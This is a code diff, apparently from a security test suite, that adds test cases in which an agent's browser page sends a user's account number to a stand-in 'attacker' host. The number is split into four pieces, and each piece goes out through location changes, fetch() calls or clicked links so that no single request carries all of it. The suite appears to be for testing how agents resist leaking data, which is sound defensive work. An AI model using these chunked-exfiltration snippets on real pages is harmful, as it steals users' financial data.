@@ -40,12 +40,34 @@ const WAYS = {
   'window-open': 'window.open(U)',
 };
 
-export const ownPage = Object.entries(WAYS).map(([id, code]) => ({
-  id: `own-${id}`,
+/** In pieces, of which each takes a page of its own: what goes besides differs from page to page. */
+const BY_PAGES = {
+  location: (url) => `location = ${url}; 0`,
+  request: (url) => `fetch(${url}).then(() => { location.reload(); }); 0`,
+  link: (url) => `document.body.appendChild(Object.assign(document.createElement('a'), { href: ${url} })).click(); 0`,
+};
+const byPages = Object.entries(BY_PAGES).map(([how, code]) => ({
+  id: `own-pieces-by-pages-${how}`,
   group: 6,
   async does({ hands, filled }) {
     await hands.goto(urlOf('attacker', '/verify'));
-    await filled.run(`(async () => { ${PRELUDE}\n${code}\n })().catch(() => {})`);
-    await hands.wait(1_000);
+    const number = filled.text('{account number}');
+    for (let i = 0; i < 4; i++) {
+      const piece = number.slice((i * number.length) / 4, ((i + 1) * number.length) / 4);
+      await hands.run(code(JSON.stringify(`/verify?i=${i}&d=${encodeURIComponent(piece)}`))).catch(() => undefined);
+      await hands.wait(1_200);
+    }
   },
 }));
+
+export const ownPage = Object.entries(WAYS)
+  .map(([id, code]) => ({
+    id: `own-${id}`,
+    group: 6,
+    async does({ hands, filled }) {
+      await hands.goto(urlOf('attacker', '/verify'));
+      await filled.run(`(async () => { ${PRELUDE}\n${code}\n })().catch(() => {})`);
+      await hands.wait(1_000);
+    },
+  }))
+  .concat(byPages);
